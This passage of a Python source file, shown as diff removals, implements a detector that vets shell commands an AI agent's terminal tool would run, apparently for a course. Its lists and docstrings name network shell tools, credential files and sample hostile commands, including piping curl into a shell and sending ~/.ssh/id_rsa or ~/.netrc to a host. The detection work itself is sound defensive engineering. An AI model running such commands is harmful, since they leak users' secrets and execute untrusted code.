-                       ".cshrc", ".tcshrc", ".login", "config.fish"}
-CREDENTIAL_FILE_NAMES = {".netrc", ".pgpass", ".npmrc", ".pypirc", ".git-credentials", ".my.cnf"}
-_A_HOME = re.compile(r"/(?:root|home/[^/]+|Users/[^/]+|var/home/[^/]+)/")
-
-SHELLS = {"sh", "bash", "zsh", "ksh", "dash", "ash", "mksh", "yash", "fish", "csh", "tcsh",
-          "rbash"}
-# Interpreters: (option letters whose value is code, letters that take a value,
-# long options whose value is code). Keyed by name without version: python3.11 -> python.
-INTERPRETERS = {
-    "python": ("c", "WXm", ""), "pypy": ("c", "WXm", ""), "perl": ("eE", "", ""),
-    "ruby": ("e", "rICE", ""), "node": ("ep", "r", "--eval --print"),
-    "nodejs": ("ep", "r", "--eval --print"), "bun": ("e", "r", "--eval --print"),
-    "php": ("rBRE", "cdfz", ""), "lua": ("e", "l", ""), "luajit": ("e", "l", ""),
-    "osascript": ("e", "", ""), "rscript": ("e", "", "")}
-FETCHERS = {"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "lwp-request", "nc",
-            "ncat", "netcat", "socat", "telnet", "ftp", "tftp"}
-NETWORK_COMMANDS = FETCHERS | {"scp", "sftp", "rsync", "ssh"}
-_REMOTE_OR_DECODED = FETCHERS | {"<decode>"}
-STDIN_FILES = {"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"}
-DECODERS = {"base64", "base32", "basenc", "xxd", "openssl", "uudecode", "gunzip", "zcat",
-            "bunzip2", "unxz", "xzcat"}
-SQL_CLIENTS = {"psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb", "sqlcmd", "pgcli",
-               "mycli", "litecli", "usql", "clickhouse-client", "snowsql", "trino", "beeline",
-               "sqlplus", "cockroach"}
-SQL_VERBS = {"drop", "delete", "truncate"}      # SQL typed straight into the terminal
-_SQL_DROP = re.compile(r"\bDROP\s+(?:TABLE|DATABASE|SCHEMA|INDEX)\b", re.I)
-_SQL_TRUNCATE = re.compile(r"\bTRUNCATE(?:\s+(?:TABLE\b|[\w\"`\[])|[\"`\[])", re.I)
-_SQL_DELETE = re.compile(r"\bDELETE\s+FROM\s+\S", re.I)
-_SQL_WHERE = re.compile(r"\bWHERE\b", re.I)
-# Comments and 'string literals' become a space; "identifiers" stay (group 1).
-_SQL_NOISE = re.compile(r"(\"[^\"]*\")|'[^']*'|/\*[^*]*\*+(?:[^/*][^*]*\*+)*/|--[^\n]*")
-
-
-def _sql_blank(match) -> str:
-    return match.group(1) or " "
-
-# Wrappers run the rest of their words as the command. Value: the options that take a
-# value (sudo -u root rm runs rm, not root) and how many operands come before the
-# command (timeout's DURATION, chrt's PRIORITY, taskset's MASK).
-WRAPPERS = {name: (set(options.split()), skip) for name, (options, skip) in {
-    "sudo": ("-u -g -C -h -p -D -r -t -U -T --user --group --close-from --host --prompt "
-             "--chdir --role --type --other-user --command-timeout", 0),
-    "doas": ("-u -C", 0), "pkexec": ("--user", 0),
-    "env": ("-u -C -S --unset --chdir --split-string", 0),
-    "command": ("", 0), "builtin": ("", 0), "exec": ("-a", 0), "nohup": ("", 0),
-    "setsid": ("", 0), "time": ("-f -o --format --output", 0), "nice": ("-n --adjustment", 0),
-    "ionice": ("-c -n --class --classdata", 0), "chrt": ("-T -P -D", 1), "taskset": ("", 1),
-    "stdbuf": ("-i -o -e --input --output --error", 0),
-    "timeout": ("-s -k --signal --kill-after", 1),
-    "xargs": ("-a -d -E -I -L -n -P -s --arg-file --delimiter --eof --replace --max-lines "
-              "--max-args --max-procs --max-chars --process-slot-var", 0),
-    "busybox": ("", 0), "toybox": ("", 0),
-    # run a command as another user, in another root or namespace, traced, or faked
-    "chroot": ("--userspec --groups", 1), "runuser": ("-u -g -G --user --group", 0),
-    "systemd-run": ("-u -p -E -H -M --unit --property --description --slice --uid --gid "
-                    "--nice --working-directory --setenv --on-active --on-calendar "
-                    "--service-type --host --machine --timer-property", 0),
-    "nsenter": ("-t -S -G --target --setuid --setgid", 0),
-    "unshare": ("-S -G -R -w --setuid --setgid --root --wd --propagation --map-user", 0),
-    "strace": ("-e -o -p -s -u -a -b -E -I -O -P -S -X -U --output --string-limit "
-               "--user --env --trace", 0),
-    "ltrace": ("-e -o -p -s -u -a -n -l -L -x -F -A -D --output --library --config", 0),
-    "fakeroot": ("-l -s -i --lib --faked", 0), "valgrind": ("", 0), "firejail": ("", 0),
-    "catchsegv": ("", 0), "nocache": ("-n", 0), "faketime": ("", 1), "unbuffer": ("", 0),
-    "proxychains": ("-f", 0), "proxychains4": ("-f", 0), "torsocks": ("-u -p -a -P", 0),
-    "caffeinate": ("-t -w", 0), "sshpass": ("-p -f -d -P", 0),
-    "parallel": ("-j -S -a -d -E -I -n -N -L --jobs --sshlogin --arg-file --delimiter "
-                 "--replace --max-args --joblog --results --timeout --workdir --colsep", 0),
-}.items()}
-# With one of these options a wrapper runs no command: `command -v rm` prints a path.
-WRAPPER_ONLY_OPTIONS = {name: set(options.split()) for name, options in {
-    "command": "-v -V", "ionice": "-p --pid", "taskset": "-p --pid", "chrt": "-p --pid",
-    "sudo": "-l -v -k -K --list --validate"}.items()}
-KEYWORDS = {"if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}",
-            "esac", "coproc"}
-NOT_A_COMMAND = {"for", "case", "select", "function", "in"}   # their words are not a command
-# Options that take a value, for the commands whose arguments the rules read.
-TAKES_VALUE = {name: set(options.split()) for name, options in {
-    "cp": "-t -S --target-directory --suffix", "mv": "-t -S --target-directory --suffix",
-    "ln": "-t -S --target-directory --suffix",
-    "install": "-m -o -g -t -S --mode --owner --group --target-directory --suffix",
-    "sed": "-e -f -l --expression --file --line-length", "perl": "-e -E", "ruby": "-e",
-    "truncate": "-s -r --size --reference", "touch": "-d -t -r --date --reference",
-    "chmod": "--reference", "chown": "--reference --from", "chgrp": "--reference",
-    "curl": "-o -d -F -H -X -T -u -A -e -x -K --output --data --data-binary --data-raw "
-            "--data-urlencode --form --header --request --upload-file --user --config",
-    "wget": "-O -o -P -U -e --output-document --output-file --directory-prefix --post-file "
-            "--body-file --user-agent",
-    "scp": "-i -F -o -P -l -J -c -S -D", "sftp": "-i -F -o -P -l -J -c -S -D",
-    "rsync": "-e --rsh --rsync-path", "crontab": "-u", "at": "-f -q -t", "batch": "-f -q",
-    "git": "-C -c --git-dir --work-tree --namespace --config-env",
-    "docker": "-H -c -l --host --context --config --log-level",
-    "podman": "-H -c -l --host --context --config --log-level",
-    "compose": "-f -p --file --project-name --profile --env-file --project-directory",
-    "systemctl": "-H -M -t -p -s -n -o --host --machine --type --property --signal --lines "
-                 "--output --root --state --kill-whom --job-mode",
-    "rg": "-e -f -g -t -T -m -A -B -C -j -r -E -M -d --regexp --file --glob --iglob "
-          "--pre-glob --type --type-not --max-count --replace --encoding --max-depth --pre "
-          "--hostname-bin",
-    "sort": "-o -k -t -S -T --output --key --field-separator --buffer-size "
-            "--temporary-directory --batch-size --parallel --files0-from --compress-program",
-    "man": "-C -M -L -m -S -s -e -p -R -E -r -P -H --config-file --manpath --locale "
-           "--systems --sections --extension --preprocessor --recode --encoding --prompt "
-           "--pager --html",
-    "ag": "-A -B -C -G -g -m -p --ignore --ignore-dir --file-search-regex --max-count "
-          "--depth --path-to-ignore --pager",
-    "tar": "-f -C -T -X --file --directory --to-command --use-compress-program "
-           "--checkpoint-action --info-script --new-volume-script",
-}.items()}
-# Read-only tools with an option whose value is a program they run (through a shell for
-# man). Their value is analysed as a command line; a plain pager is harmless.
-PROGRAM_OPTIONS = {"rg": ("--pre", "--hostname-bin"), "sort": ("--compress-program",),
-                   "rsync": ("-e", "--rsh"),
-                   "man": ("-P", "--pager", "-H", "--html"), "ag": ("--pager",),
-                   "tar": ("--to-command", "--use-compress-program", "--checkpoint-action",
-                           "--info-script", "--new-volume-script")}
-HARMLESS_PROGRAMS = {"cat", "less", "more", "most", "vi", "vim", "nvim", "nano", "true", "ssh",
-                     "gzip", "bzip2", "xz", "zstd", "lz4", "pigz", "lzop"}  # pagers, editors,
-                                                                            # compressors
-# git -c NAME=VALUE: settings whose value git runs as a command (alias.x='!cmd' too).
-GIT_PROGRAM_SETTINGS = {"core.editor", "core.pager", "core.sshcommand", "core.fsmonitor",
-                        "sequence.editor", "diff.external", "gpg.program", "core.askpass",
-                        "credential.helper", "pager.log", "pager.diff", "pager.show"}
-# find tests that pick some files only; without one, -delete takes the start point too.
-FIND_FILTERS = {"-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex",
-                "-iregex", "-newer", "-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin",
-                "-size", "-user", "-group", "-uid", "-gid", "-perm", "-empty", "-links",
-                "-inum", "-samefile", "-nouser", "-nogroup", "-lname", "-ilname", "-used"}
-WRITING_COMMANDS = {"tee", "cp", "mv", "install", "ln", "dd", "sed", "perl", "ruby", "truncate",
-                    "shred", "rm", "unlink", "rmdir", "chmod", "chown", "chgrp", "touch",
-                    "mkdir", "mkfifo", "mknod", "curl", "sort", "wget"}
-OUTPUT_OPTIONS = {"curl": ("-o", "--output"), "sort": ("-o", "--output"),
-                  "wget": ("-O", "--output-document", "-o", "--output-file")}
-
-# ── [s09] Detector: what the rules ask about a command ──────────────────────
-
-class Arguments(NamedTuple):
-    letters: set               # single-letter options, also from bundles (-rf -> r, f)
-    longs: list                # long options without their "=value"
-    values: dict               # option -> its value, for the options that take one
-    operands: list             # everything else; all words after "--"
-    end: int                   # with stop_at_operand: where the options ended
-
-
-def split_arguments(args: list, takes_value=frozenset(), start: int = 0,
-                    stop_at_operand: bool = False) -> Arguments:
-    """GNU style: options may come anywhere before "--" (rm build/ -rf). A wrapper's
-    options stop at the first operand (sudo -u root rm -f x: rm's -f is rm's)."""
-    letters, longs, values, operands = set(), [], {}, []
-    i = start
-    while i < len(args):
-        text = args[i]
-        i += 1
-        if text == "--":
-            operands.extend(args[i:])
-            break
-        if len(text) < 2 or text[0] != "-":
-            if stop_at_operand:
-                i -= 1
-                break
-            operands.append(text)
-        elif text.startswith("--"):
-            name, equals, value = text.partition("=")
-            longs.append(name)
-            if equals:
-                values[name] = value
-            elif name in takes_value and i < len(args):
-                values[name], i = args[i], i + 1
-        else:
-            for k in range(1, len(text)):
-                letters.add(text[k])
-                if "-" + text[k] in takes_value:       # -ofile, or -o file
-                    if k + 1 < len(text):
-                        values["-" + text[k]] = text[k + 1:]
-                    elif i < len(args):
-                        values["-" + text[k]], i = args[i], i + 1
-                    break
-    return Arguments(letters, longs, values, operands, i)
-
-
-def first_operand(args: list, takes_value=frozenset(), start: int = 0) -> int:
-    """The index of the first word after the options: git -C dir reset -> "reset"."""
-    return split_arguments(args, takes_value, start, stop_at_operand=True).end
-
-
-def uses_option(args: Arguments, wanted: set) -> bool:
-    """Whether one of `wanted` ({"-v", "--list"}) was given, also in a bundle (-Sn)."""
-    return bool(args.letters & {o[1] for o in wanted if len(o) == 2}
-                or wanted.intersection(args.longs))
-
-
-def has_option(args, letters: str, long: str) -> bool:
-    """-r in any bundle, or the long option also abbreviated (GNU: --rec = --recursive)."""
-    if isinstance(args, Call):
-        args = args.arguments
-    return bool(args.letters & set(letters)) or any(
-        len(option) > 2 and long.startswith(option) for option in args.longs)
-
-
-def recursive(call): return has_option(call, "rR", "--recursive")
-def forced(call): return has_option(call, "f", "--force")
-
-
-def _rm_kind(path: str) -> str:
-    """"root", "home" or "system" (a top-level system directory) for hardline targets."""
-    if not path.startswith("/"):
-        return ""
-    parts = path.split("/")
-    while len(parts) > 1 and _EVERYTHING.fullmatch(parts[-1]):
-        parts.pop()                                     # /* deletes what / holds
-    path = "/".join(parts) or "/"
-    if path == "/":
-        return "root"
-    if path == _paths().home:
-        return "home"
-    top, _, rest = path[1:].partition("/")
-    return "system" if not rest and is_system_dir(top) else ""
-
-
-def is_system_dir(name: str) -> bool:
-    """"etc", or a glob that matches a system directory: "e*", "[e]tc", "???"."""
-    return name in SYSTEM_DIRS or bool(names_matching(name, _SYSTEM_DIR_NAMES))
-
-
-def names_matching(pattern: str, names: tuple) -> list[str]:
-    """The names (a sorted tuple) a glob pattern (r?, /e*, [e]tc) matches; [] when it is
-    no pattern. fnmatch is quadratic in the pattern's length: a longer one is too complex."""
-    glob = _GLOB.search(pattern)
-    if not glob:
-        return []
-    if len(pattern) > MAX_GLOB_CHARS:
-        raise _TooComplex(f"a glob pattern longer than {MAX_GLOB_CHARS} characters")
-    prefix = pattern[:glob.start()]                      # r? can only name r…
-    start = bisect.bisect_left(names, prefix)
-    names = list(itertools.takewhile(lambda n: n.startswith(prefix), names[start:]))
-    names = names if prefix else [n for n in names if n[:1] != "."]   # * skips dot files
-    if not names:
-        return []
-    seen = _GLOBS_SEEN.get()                             # each new pattern is compiled:
-    if seen is not None and pattern not in seen:         # a budget for them
-        seen.add(pattern)
-        if len(seen) > MAX_GLOB_PATTERNS:
-            raise _TooComplex(f"more than {MAX_GLOB_PATTERNS} glob patterns")
-    return fnmatch.filter(names, pattern)
-
-
-_GLOBS_SEEN = contextvars.ContextVar("detector_globs", default=None)
-_SYSTEM_DIR_NAMES = tuple(sorted(SYSTEM_DIRS))
-
-
-_GLOB = re.compile(r"[*?\[]")
-_EVERYTHING = re.compile(r"\.?[*?]+")           # a glob matching every name: *, .*, ?*
-_HOME_EXPANSION = re.compile(r"^\$\{HOME[:%#/^,][^}]*\}")
-
-
-def under_system_dir(path: str) -> bool:
-    """Under a system directory or directly under /; in /home only a whole home (what
-    is inside /home/<user> is that user's own, /root is a system directory)."""
-    if not path.startswith("/") or path == "/":
-        return False
-    top, _, rest = path[1:].partition("/")
-    if top == "home":
-        return "/" not in rest
-    return not rest or is_system_dir(top)
-
-
-def deleted_paths(call: Call) -> list[str]:
-    """What a command deletes as a whole: rm's operands, shred -u's files, find's start
-    points with -delete (unless a test such as -name picks some files), and the
-    destination of rsync --delete (an empty folder synced onto / empties /)."""
-    if call.name == "rm" or call.name == "shred" and has_option(call, "u", "--remove"):
-        return call.operand_paths
-    if call.name == "find" and "-delete" in call.args and not find_filtered(call.args):
-        return [p for start in find_start_points(call.args)
-                for p in in_working_directory(start, call.cmd.cwds)]
-    operands = call.arguments.operands
-    if call.name == "rsync" and operands and ":" not in operands[-1] and any(
-            o.startswith("--del") for o in call.arguments.longs):
-        return in_working_directory(operands[-1], call.cmd.cwds)
-    return []
-
-
-def find_start_points(args: list) -> list[str]:
-    """find [-H -L -P -D x -Olevel] START… EXPRESSION: the START points, or ".". """
-    i = 0
-    while i < len(args) and args[i] in ("-H", "-L", "-P", "-D") or (
-            i < len(args) and args[i].startswith("-O")):
-        i += 2 if args[i] == "-D" else 1
-    start = i
-    while i < len(args) and args[i][:1] not in ("-", "(", "!", ","):
-        i += 1
-    return args[start:i] or ["."]
-
-
-def find_filtered(args: list) -> bool:
-    """Whether find's tests pick some files only (-name x), not everything."""
-    return bool(FIND_FILTERS.intersection(args)) and not {
-        "-o", "-or", "!", "-not", ",", "*"}.intersection(args)
-
-
-def in_home(path: str) -> bool:
-    """Inside the current home (also when that is /root, as in many containers)."""
-    home = _paths().home
-    return home != "/" and path.startswith(home + "/")
-
-
-def chown_to_root_or_system(call: Call) -> bool:
-    operands = call.arguments.operands
-    if not operands:
-        return False
-    owner = re.split(r"[:.]", operands[0])[0]
-    return owner in ("root", "0") or any(
-        _rm_kind(p) or under_system_dir(p) for p in call.operand_paths[1:])
-
-
-def world_writable(mode: str) -> bool:
-    """777, 0666, 00777, 1777, o+w, a+w, a=rwx, ugo+rwx: anyone may write."""
-    if re.fullmatch(r"0*[0-7]{1,4}", mode):
-        return int(mode, 8) & 0o002 != 0
-    for clause in mode.split(","):
-        match = re.fullmatch(r"([ugoa]*)((?:[-+=][rwxXst]*)+)", clause)
-        if match and re.search("[oa]", match.group(1)) and re.search(
-                r"[+=][rXxst]*w", match.group(2)):
-            return True
-    return False
-
-
-def shuts_down(call: Call) -> bool:
-    if asks_for_help(call):
-        return False                                       # reboot --help only prints
-    if call.name in ("shutdown", "reboot", "halt", "poweroff"):
-        return not (call.name == "shutdown" and has_option(call, "ck", "--cancel"))
-    operands = call.arguments.operands                     # shutdown -c cancels one,
-    if call.name in ("init", "telinit"):                   # shutdown -k only warns
-        return operands[:1] in (["0"], ["6"])
-    if operands[:1] in (["start"], ["isolate"]):           # systemctl start reboot.target
-        return any(o.startswith(_SHUTDOWN_TARGETS) for o in operands[1:])
-    return bool(operands) and operands[0] in ("poweroff", "reboot", "halt", "kexec",
-                                              "soft-reboot")
-
-
-_SHUTDOWN_TARGETS = ("reboot.", "poweroff.", "halt.", "kexec.", "ctrl-alt-del.",
-                     "soft-reboot.", "runlevel0.", "runlevel6.")
-
-
-def asks_for_help(call: Call) -> bool:
-    """--help or --version: GNU tools print and exit before they do anything."""
-    return bool({"--help", "--version"} & set(call.arguments.longs))
-
-
-def kill_signal(call: Call) -> tuple[str, list]:
-    """(signal, the rest) for kill/pkill/killall: -9, -KILL, -SIGKILL, -s 9, -n 9, --.
-    For pkill -s, -g, -u … name a session, group or user, not a signal."""
-    args, signal, rest, i = call.args, "", [], 0
-    signal_options = ("--signal",) if call.name == "pkill" else ("-s", "-n", "--signal")
-    while i < len(args):
-        text, i = args[i], i + 1
-        if text == "--":
-            rest.extend(args[i:])
-            break
-        if call.name == "pkill" and text in _PKILL_VALUES:
-            i += 1
-        elif text in signal_options:
-            signal, i = (args[i] if i < len(args) else ""), i + 1
-        elif text.startswith("--signal="):
-            signal = text[9:]
-        elif text.startswith("-") and len(text) > 1 and not signal and not rest:
-            signal = text[1:]
-        else:
-            rest.append(text)
-    return signal.upper().removeprefix("SIG"), rest
-
-
-_PKILL_VALUES = {"-s", "-g", "-u", "-U", "-G", "-P", "-t", "-F", "--session", "--pgroup",
-                 "--euid", "--uid", "--group", "--parent", "--terminal", "--pidfile", "--ns",
-                 "--nslist"}
-
-
-def kills_every_process(call: Call) -> bool:
-    if call.name == "killall5":                            # sysvinit: signal everything
-        return True
-    if call.args[:1] in (["-l"], ["-L"], ["--list"], ["--table"]):
-        return False                                       # kill -l -1 lists signals
-    signal, rest = kill_signal(call)
-    return any(re.fullmatch(r"-0*1", pid) for pid in rest) or (signal == "1" and not rest)
-
-
-def kills_the_agent(call: Call) -> bool:
-    """Covers: its pid ($$, $PPID, or the number), and a name pattern naming a stage file
-    (pkill -f s09_permission) or the course; not `pkill python` (too broad to guess)."""
-    rest = kill_signal(call)[1]
-    if call.name == "kill":
-        return bool({"$$", "${$}", "$PPID", "${PPID}", str(os.getpid())} & set(rest))
-    return any(re.search(r"s\d\d_|learn.hermes", text) for text in rest)
-
-
-def stops_service(call: Call) -> bool:
-    operands = call.arguments.operands
-    if call.name == "service":
-        return operands[1:2] in (["stop"], ["restart"])
-    return bool(operands) and operands[0] in (
-        "stop", "restart", "try-restart", "reload-or-restart", "disable", "mask", "kill",
-        "isolate", "rescue", "emergency")
-
-
-def git_arguments(call: Call) -> Arguments:
-    return split_arguments(call.subcommand[1])
-
-
-def pushes_force(args: Arguments) -> bool:
-    return ("f" in args.letters or any(o.startswith("--forc") for o in args.longs)
-            or any(o.startswith("+") for o in args.operands))      # +main forces too
-
-
-def pushes_delete(args: Arguments) -> bool:
-    """git push --delete, --mirror or --prune, or a refspec :main (nothing onto main)."""
-    return (has_option(args, "d", "--delete") or "--mirror" in args.longs
-            or "--prune" in args.longs or any(o.startswith(":") for o in args.operands))
-
-
-def deletes_branch(args: Arguments) -> bool:
-    return "D" in args.letters or (has_option(args, "d", "--delete")
-                                   and has_option(args, "f", "--force"))
-
-
-def stops_containers(call: Call) -> bool:
-    args = call.args
-    if call.name.endswith("-compose"):
-        verb_at = first_operand(args, TAKES_VALUE["compose"])
-    else:
-        verb_at = first_operand(args, TAKES_VALUE["docker"])
-        if args[verb_at:verb_at + 1] == ["compose"]:
-            verb_at = first_operand(args, TAKES_VALUE["compose"], verb_at + 1)
-        elif args[verb_at:verb_at + 1] == ["container"]:
-            verb_at += 1
-    verb = args[verb_at] if verb_at < len(args) else ""
-    if verb in ("stop", "kill", "restart", "down"):
-        return True
-    return verb == "rm" and has_option(split_arguments(args[verb_at + 1:]), "f", "--force")
-
-
-def formats_device(call: Call) -> bool:
-    """mkfs and the DISK_TOOLS (wipefs -a, parted … mklabel, sfdisk, …) on a disk."""
-    if not any(map(is_block_device, call.operand_paths)) or asks_for_help(call):
-        return False
-    wipes = "*" if _MKFS.fullmatch(call.name) else DISK_TOOLS[call.name]
-    words = set(call.args)
-    if wipes == "<stdin>":                                 # fdisk with a script: it writes
-        return bool(call.cmd.stdin or call.cmd.prev or any(
-            op == "<" for op, _ in call.cmd.redirects)) and not words & DISK_TOOLS_READ_ONLY
-    if wipes == "*":
-        return _MKFS.fullmatch(call.name) is not None or not words & DISK_TOOLS_READ_ONLY
-    wanted = set(wipes.split())
-    letters = {w[1] for w in wanted if len(w) == 2 and w[0] == "-"}
-    return bool(words & wanted or call.arguments.letters & letters) and not (
-        call.name == "wipefs" and has_option(call, "n", "--no-act"))
-
-
-def sql_texts(call: Call) -> list[str]:
-    """The SQL a command runs: bare SQL typed as a command, or the arguments (also
-    -cDROP…, --command=…) and the stdin (heredoc, echo '…' | psql) of an SQL client.
-    grep 'DROP TABLE' is data; so is the text of an SQL string: SELECT 'DROP TABLE x'."""
-    if call.name in SQL_VERBS:
-        return [_SQL_NOISE.sub(_sql_blank, " ".join([call.name] + call.args))]
-    if call.name not in SQL_CLIENTS:
-        return []
-    values = [a.partition("=")[2] if a.startswith("--") else a[2:]
-              for a in call.args if a.startswith("-")]
-    texts = call.args + values + call.cmd.stdin + piped_text(call.cmd.prev)
-    return [_SQL_NOISE.sub(_sql_blank, t) for t in texts]     # DROP/**/TABLE, 'DROP TABLE'
-
-
-def deletes_every_row(sql: str) -> bool:
-    return any(_SQL_DELETE.search(s) and not _SQL_WHERE.search(s) for s in sql.split(";"))
-
-
-def runs_inline_code(call: Call) -> bool:
-    """python -c, perl -e, node -e …; awk calling system() or a pipe; deno eval."""
-    if interpreter_mode(call) == "code":
-        return True
-    if call.name in ("awk", "gawk", "mawk", "nawk"):
-        return any(_AWK_RUNS_COMMANDS.search(a) for a in call.args)
-    if call.name == "sed":                               # GNU sed's e command runs a shell
-        return bool(sed_commands(call.args))
-    return call.name == "deno" and call.args[:1] == ["eval"]
-
-
-_AWK_RUNS_COMMANDS = re.compile(r"system\s*\(|\|\s*(?:getline|\")|print[^;]*\|")
-# sed's e command after an optional address: 1e CMD, /x/e CMD, $ e CMD.
-_SED_E_COMMAND = re.compile(r"(?:^|[;\n{}])\s*(?:[0-9$]+|/[^/\n]*/)?\s*!?\s*e(?:[ \t]+([^\n;}]*)|$|;)")
-
-
-def sed_commands(args: list) -> list[str]:
-    """The shell commands a sed script runs with e (the script: -e values or the first
-    operand). s///e (run the pattern space) is not read: a documented limit."""
-    parsed = split_arguments(args, TAKES_VALUE["sed"])
-    scripts = [v for o, v in parsed.values.items() if o in ("-e", "--expression")]
-    scripts = scripts or parsed.operands[:1]
-    return [m.group(1) or "" for text in scripts for m in _SED_E_COMMAND.finditer(text)]
-
-
-def replaces_crontab(call: Call) -> bool:
-    """crontab -r removes it; crontab FILE and crontab - (stdin) replace it."""
-    parsed = call.arguments
-    if has_option(parsed, "r", "--remove"):
-        return True
-    return bool(parsed.operands) and not parsed.letters & set("lei")
-
-
-def runs_windows_shell(call: Call) -> bool:
-    """cmd /c or /k runs its command line; PowerShell with any argument runs one too
-    (-Command, -EncodedCommand, -File, or a bare Remove-Item …)."""
-    if call.name == "cmd":
-        return any(a.lower() in ("/c", "/k") for a in call.args)
-    return bool(call.args)
-
-
-def shell_program(args: list) -> tuple[str, str | None]:
-    """How a shell gets its program: ("c", text) for -c in any bundle (-lc, -xc),
-    ("stdin", None), or ("file", path)."""
-    i, command_mode, from_stdin = 0, False, False
-    while i < len(args):
-        text, i = args[i], i + 1
-        if text in ("-", "--"):
-            break
-        if text in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
-            i += 1
-        elif text.startswith("--command"):                 # fish --command=…
-            return "c", text.partition("=")[2] or (args[i] if i < len(args) else "")
-        elif text[:1] in ("-", "+") and len(text) > 1 and not text.startswith("--"):
-            command_mode |= "c" in text
-            from_stdin |= "s" in text
-            i += text.count("o") + text.count("O")          # -euo pipefail
-        elif not text.startswith("--"):
-            i -= 1
-            break
-    operands = args[i:]
-    if command_mode:
-        return "c", operands[0] if operands else ""
-    if from_stdin or not operands or operands[0] in STDIN_FILES:
-        return "stdin", None
-    return "file", operands[0]
-
-
-def interpreter_base(name: str) -> str:
-    base = name.rstrip("0123456789.")                   # python3.11 -> python
-    return base if base in INTERPRETERS else ""
-
-
-def interpreter_mode(call: Call) -> str:
-    """"code" (python -c, perl -e, node --eval), "module", "file" or "stdin"."""
-    base = interpreter_base(call.name)
-    if not base:
-        return ""
-    code_letters, value_letters, code_longs = INTERPRETERS[base]
-    args, i = call.args, 0
-    while i < len(args):
-        text, i = args[i], i + 1
-        if text == "--":
-            break
-        if text == "-":
-            return "stdin"
-        if len(text) < 2 or text[0] != "-":
-            i -= 1
-            break
-        if text.startswith("--"):
-            if text.partition("=")[0] in code_longs.split():
-                return "code"
-            continue
-        for k, letter in enumerate(text[1:], 1):
-            if letter in code_letters:
-                return "code"
-            if letter in value_letters:
-                if letter == "m" and base in ("python", "pypy"):
-                    return "module"
-                i += k == len(text) - 1                  # the value is the next word
-                break
-    return "file" if args[i:] and args[i] not in STDIN_FILES else "stdin"
-
-
-def program_from_stdin(call: Call) -> bool:
-    """A shell or interpreter that reads its program from stdin."""
-    if call.name in SHELLS:
-        return shell_program(call.args)[0] == "stdin"
-    if call.name in ("source", "."):
-        return bool(call.args) and call.args[0] in STDIN_FILES | {"-"}
-    if call.name in ("at", "batch"):                    # at now <<< CMD: the job's script
-        return not call.arguments.letters & set("flcdr")   # (-f FILE, -l lists, …)
-    return interpreter_mode(call) == "stdin"
-
-
-def runs_remote_code(call: Call) -> bool:
-    """bash <(curl …), source <(…), eval "$(curl …)", sh -c "$(wget …)", curl -o x.sh
-    … && sh x.sh, and fetchers other than curl and wget piped into a shell."""
-    if "runs_download" in call.tags:
-        return True
-    if call.cmd.upstream & (FETCHERS - {"curl", "wget"}) and program_from_stdin(call):
-        return True
-    if not (call.name in SHELLS or call.name in ("eval", "source", ".")
-            or interpreter_base(call.name)):
-        return False
-    words = call.words + [t for op, t in call.cmd.redirects if op in ("<", "<<<")]
-    return any(c.call and c.call.name in FETCHERS for w in words for c in w.subs)
-
-
-def sends_credentials(call: Call) -> bool:
-    """curl -d @~/.ssh/id_rsa, scp ~/.aws/credentials host:, cat ~/.netrc | nc host."""
-    if call.name not in NETWORK_COMMANDS:
-        return False
-    if "<secret>" in call.cmd.upstream or any(
-            secret_file(resolve(t.text)) for op, t in call.cmd.redirects if op == "<"):
-        return True
-    if call.name in FETCHERS:
-        texts = call.args
-    elif call.name == "ssh":
-        return False                         # ssh -i ~/.ssh/id_rsa uses the key locally
-    else:
-        texts = call.arguments.operands
-    return any(secret_file(resolve(t.rpartition("@")[2].lstrip("<"))) for t in texts)
-
-# ── [s09] Detector: paths ───────────────────────────────────────────────────
-
-class _Paths(NamedTuple):
-    home: str
-    variables: tuple           # (written form, value): ~, $HOME, $LEARN_HERMES_HOME, ...
-    state_dirs: tuple          # the course's state, and a real Hermes install's next to it
-    cwd: str | None            # the working directory the command will run in
-
-
-def _environment() -> tuple:
-    get = os.environ.get
-    return get("HOME"), get("LEARN_HERMES_HOME"), get("HERMES_HOME"), _working_directory()
-
-
-def _working_directory() -> str | None:
-    # The terminal tool runs the command in the agent's working directory, so relative
-    # paths are read against it, like ~ against HOME: rm -rf ../../.. may be rm -rf /.
-    try:
-        return os.getcwd()
-    except OSError:                                     # deleted: relative paths unknown
-        return None
-
-
-@functools.lru_cache(maxsize=8)
-def _paths_for(environment: tuple) -> _Paths:
-    home = posixpath.normpath(os.path.expanduser("~"))
-    course = posixpath.normpath(environment[1] or home + "/.learn-hermes")
-    hermes = posixpath.normpath(environment[2] or home + "/.hermes")
-    variables = [("~", home)]
-    for name, value in (("HOME", home), ("LEARN_HERMES_HOME", course), ("HERMES_HOME", hermes)):
-        variables += [("$" + name, value), ("${" + name + "}", value)]
-    return _Paths(home, tuple(variables), (course, home + "/.learn-hermes", hermes),
-                  environment[3])
-
-
-# The paths of the analysis running in this thread (s10 runs several at once), read
-# once per analysis instead of once per path.
-_CURRENT_PATHS = contextvars.ContextVar("detector_paths", default=None)
-
-
-def _paths() -> _Paths:
-    return _CURRENT_PATHS.get() or _paths_for(_environment())
-
-
-def resolve(path: str, cwd: str | None = None) -> str:
-    """A path as the checks compare it (read at detection time): ~, ~user, ~+, $HOME,
-    ${HOME}, $LEARN_HERMES_HOME and $HERMES_HOME expanded; a relative path joined to
-    the working directory cwd (None: unknown, it stays relative); //, /./ and /../
-    folded. Careful: POSIX keeps a leading "//", so leading slashes are folded first."""
-    if path[:2] == "~+" and path[2:3] in ("", "/"):
-        path = (cwd or ".") + path[2:]                   # ~+ is $PWD
-    elif path[:1] in ("~", "$"):
-        path = _expand_home(path)
-    if cwd and path and path[0] not in "/~$":
-        path = cwd + "/" + path
-    if path.startswith("/") and _NOT_NORMAL.search(path):
-        path = posixpath.normpath("/" + path.lstrip("/"))
-    return path
-
-
-def in_working_directory(path: str, cwds: tuple) -> list[str]:
-    """path resolved in each working directory the command may run in."""
-    return [resolve(path)] if path[:1] == "/" else [resolve(path, cwd) for cwd in cwds]
-
-
-def resolutions(path: str, cwds: tuple) -> list[str]:
-    """path resolved in each working directory the command may run in, and a relative
-    path also as written: a start-up file's name counts in any folder."""
-    if path[:1] == "/":
